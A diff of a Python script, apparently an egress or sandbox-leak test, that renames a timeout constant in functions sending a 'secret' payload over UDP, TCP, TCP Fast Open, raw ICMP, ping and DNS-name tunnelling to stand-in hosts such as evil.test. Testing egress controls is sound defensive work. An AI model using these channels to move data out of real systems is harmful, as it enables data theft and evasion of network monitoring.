@@ -2,7 +2,7 @@
 import os, socket, struct, threading
 
 V4, V6, SECRET = "198.51.100.66", "2001:db8:66::66", b"secret-secret-secret"
-PATIENCE = 2
+TIMEOUT = 2
 tried = []
 
 
@@ -27,7 +27,7 @@ def made(name, work):
 def udp(family, address, data=SECRET):
     def work():
         with socket.socket(family, socket.SOCK_DGRAM) as sock:
-            sock.settimeout(PATIENCE)
+            sock.settimeout(TIMEOUT)
             sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
             sock.sendto(data, address)
             return sock.recv(2000)
@@ -37,7 +37,7 @@ def udp(family, address, data=SECRET):
 def tcp(family, address, data=SECRET):
     def work():
         with socket.socket(family, socket.SOCK_STREAM) as sock:
-            sock.settimeout(PATIENCE)
+            sock.settimeout(TIMEOUT)
             sock.connect(address)
             sock.sendall(data)
             return sock.recv(2000)
@@ -46,7 +46,7 @@ def tcp(family, address, data=SECRET):
 
 def fast_open():
     with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
-        sock.settimeout(PATIENCE)
+        sock.settimeout(TIMEOUT)
         sock.sendto(SECRET, 0x20000000, (V4, 7000))
         return sock.recv(100)
 
@@ -54,7 +54,7 @@ def fast_open():
 def raw(family, address, protocol):
     def work():
         with socket.socket(family, socket.SOCK_RAW, protocol) as sock:
-            sock.settimeout(PATIENCE)
+            sock.settimeout(TIMEOUT)
             sock.sendto(struct.pack(">BBHHH", 8, 0, 0xF7FF, 0, 0) + SECRET, address)
     return work
 
@@ -68,7 +68,7 @@ def own_header():
 
 def ping():
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
-        sock.settimeout(PATIENCE)
+        sock.settimeout(TIMEOUT)
         sock.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, 0) + SECRET, (V4, 0))
         return sock.recv(100)
 
@@ -93,12 +93,12 @@ def tunnel_in_names(server, tcp_too):
         for kind in 1, 28, 5, 10, 15, 16, 33, 65, 99, 255:
             query = question(b"736563726574.t.evil.test", kind)
             if tcp_too:
-                with socket.create_connection((server, 53), PATIENCE) as sock:
+                with socket.create_connection((server, 53), TIMEOUT) as sock:
                     sock.sendall(struct.pack(">H", len(query)) + query)
                     reply = sock.recv(2000)[2:]
             else:
                 with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
-                    sock.settimeout(PATIENCE)
+                    sock.settimeout(TIMEOUT)
                     sock.sendto(query, (server, 53))
                     reply = sock.recv(2000)
             if reply and (reply[3] & 0xF == 0 or reply[6:8] != b"\0\0"):
